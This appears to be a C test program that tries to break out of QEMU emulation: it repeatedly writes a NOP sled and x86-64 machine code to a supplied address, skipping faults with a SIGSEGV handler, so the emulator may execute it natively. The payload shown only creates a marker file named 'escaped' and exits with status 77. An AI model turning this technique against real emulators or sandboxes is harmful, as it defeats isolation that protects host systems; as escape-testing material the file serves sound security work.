/* SPDX-License-Identifier: MIT */
/* What a hostile process is: its copy under QEMU leaves the emulator.
 *
 *	escape-target ADDRESS
 *
 * Again and again it writes machine code to ADDRESS, where it has no memory: the fault goes to a handler, which passes
 * over it. If ADDRESS is where the emulator keeps the code by which it enters what it has translated, the copy's write
 * hits that, and the next block that is translated is entered by executing it: natively, as part of the emulator. It
 * then creates a file, "escaped" in the current folder, and ends with status 77, whether it could or not. */
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ucontext.h>

#define SLED 160        /* the way out of translated code lies behind the way in: wherever it is entered */
#define SIZE 256

extern const uint8_t native[], native_end[];
__asm__(".data\n"
	"native:	lea	1f(%rip), %rdi\n"
	"	mov	$0x41, %esi\n"          /* O_WRONLY | O_CREAT */
	"	mov	$0600, %edx\n"
	"	mov	$2, %eax\n"
	"	syscall\n"                      /* open */
	"	mov	$77, %edi\n"
	"	mov	$231, %eax\n"
	"	syscall\n"                      /* exit_group */
	"1:	.asciz	\"escaped\"\n"
	"native_end:\n"
	".text\n");

static uint8_t code[SIZE] __attribute__((aligned(64)));
extern char behind[];

/* In one block, which is left by nothing: half of it would not do. Then a while without faults, so that most snapshots
 * are taken there. */
void attack(uint64_t to, const uint8_t *from) __attribute__((noreturn));
__asm__("attack:\n"
	"	.set	at, 0\n"
	"	.rept	32\n"
	"	mov	at(%rsi), %rax\n"
	"	mov	%rax, at(%rdi)\n"
	"	.set	at, at + 8\n"
	"	.endr\n"
	"behind:	mov	$30000, %ecx\n"
	"1:	dec	%ecx\n"
	"	jnz	1b\n"
	"	jmp	attack\n");

static void pass_over(int signal, siginfo_t *info, void *context)
{
	ucontext_t *c = context;

	(void)signal, (void)info;
	c->uc_mcontext.gregs[REG_RIP] = (greg_t)(uintptr_t)behind;
}

int main(int argc, char **argv)
{
	const struct sigaction action = { .sa_sigaction = pass_over, .sa_flags = SA_SIGINFO };

	if (argc != 2 || sigaction(SIGSEGV, &action, NULL) != 0) {
		fprintf(stderr, "usage: escape-target ADDRESS\n");
		return 2;
	}
	memset(code, 0x90, SLED); /* nop */
	memcpy(code + SLED, native, (size_t)(native_end - native));
	attack(strtoull(argv[1], NULL, 16), code);
}
